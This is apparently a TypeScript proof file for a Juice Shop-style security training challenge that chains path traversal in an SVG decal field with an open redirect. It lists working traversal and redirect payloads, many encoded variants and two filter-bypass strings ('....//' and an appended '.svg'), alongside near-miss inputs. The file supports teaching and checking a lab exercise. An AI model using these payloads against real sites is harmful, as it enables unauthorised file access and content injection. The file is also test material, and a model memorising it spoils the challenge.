import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const SOURCES = 'https://github.com/juice-shop/juice-shop'
const CAT = '/internet/purrbox.example/cat.svg'

const show = (attacker: Attacker, decal: string) => attacker.emit('verifySvgInjectionChallenge', decal)
/** Decal that climbs three folders and then uses the redirect. */
const leadTo = (to: string) => `../../../redirect?to=${to}`
const showing = (decals: Readonly<Record<string, string>>): Record<string, Attack> =>
  Object.fromEntries(
    Object.entries(decals).map(([title, decal]): [string, Attack] => [title, (attacker) => show(attacker, decal)]),
  )

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.get('/internet/purrbox.example/')
    // A picture of the shop, then one addressed through the parent folder, show that path traversal works.
    await show(attacker, 'logo.svg')
    await show(attacker, '../images/logo.svg')
    await show(attacker, leadTo(`${CAT}?x=${SOURCES}`))
  },
  spellings: showing({
    'another cat': leadTo(`/internet/purrbox.example/asleep.svg?x=${SOURCES}`),
    'behind a hash, in percent signs': leadTo(`${CAT}%23${SOURCES}`),
    'with another address of the list': leadTo(`${CAT}?page=http://leanpub.com/juice-shop`),
    'more steps up than there are': `../../../../../../redirect?to=${CAT}?x=${SOURCES}`,
    'steps up in percent signs': `%2e%2e/%2e%2e/%2e%2e/redirect?to=${CAT}?x=${SOURCES}`,
    'backslashes, which browsers turn round': `..\\..\\..\\redirect?to=${CAT}?x=${SOURCES}`,
    'through a folder that is there': `products/../../../../redirect?to=${CAT}?x=${SOURCES}`,
    'the target in percent signs': leadTo(encodeURIComponent(`${CAT}?x=${SOURCES}`)),
    'the whole address of a shop at home': leadTo(`http://localhost:3000${CAT}?x=${SOURCES}`),
    'another parameter in front': `../../../redirect?lang=en&to=${CAT}?x=${SOURCES}`,
    'as bots of the interface send it': leadTo(`https://cataas.com/cat?x=${SOURCES}`),
    'as older ones do': leadTo(`https://placekitten.com/g/400/500?x=${SOURCES}`),
    'as the oldest do': leadTo(`http://placekitten.com/200/300?x=${SOURCES}`),
  }),
  nearMisses: {
    ...showing({
      'a picture of the shop': 'logo.svg',
      'another picture of the shop': 'products/apple_juice.jpg',
      'a step up that stays inside': '../images/logo.svg',
      'a cat that the redirect refuses': leadTo(CAT),
      'the redirect to a page that the shop links to': leadTo(SOURCES),
      'the redirect to another site': leadTo(`https://elsewhere.test/cat.svg?x=${SOURCES}`),
      'a site with a name that begins alike': leadTo(`https://cataas.com.elsewhere.test/cat?x=${SOURCES}`),
      'the path of a cat at another site': leadTo(`https://elsewhere.test${CAT}?x=${SOURCES}`),
      'a cat that is not there': leadTo(`/internet/purrbox.example/dog.svg?x=${SOURCES}`),
      'the front page of the site': leadTo(`/internet/purrbox.example/index.html?x=${SOURCES}`),
      'a page of another host': leadTo(`/internet/chirp.example/forbiddenfruit.html?x=${SOURCES}`),
      'the cat without the redirect': `../../..${CAT}`,
      'two steps up, which is not far enough': `../../redirect?to=${CAT}?x=${SOURCES}`,
      'the address of the cat alone': `${CAT}?x=${SOURCES}`,
      nothing: '',
    }),
    'the redirect without the membership page': (attacker) =>
      attacker.get(`/redirect?to=${encodeURIComponent(`${CAT}?x=${SOURCES}`)}`),
    'the cat at its own site': (attacker) => attacker.get(CAT),
  },
  bypasses: {
    'leave-out-steps-up': (attacker) => show(attacker, `....//....//....//redirect?to=${CAT}?x=${SOURCES}`),
    'want-the-ending-of-a-picture': (attacker) => show(attacker, `${leadTo(`${CAT}?x=${SOURCES}`)}&end=.svg`),
  },
})
